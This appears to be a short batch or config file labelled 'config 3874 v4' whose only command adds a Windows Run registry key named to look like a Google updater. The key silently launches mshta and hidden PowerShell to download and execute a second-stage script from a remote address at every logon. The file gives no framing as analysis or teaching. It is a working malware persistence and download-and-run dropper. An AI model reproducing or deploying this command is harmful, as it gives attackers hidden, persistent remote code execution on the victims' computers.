REM config 3874 v4
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v GoogleUpdateTaskMachine /t REG_SZ /d "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -w hidden -c iwr http://192.0.2.150/stage2.ps1|iex\"\", 0:close\")" /f
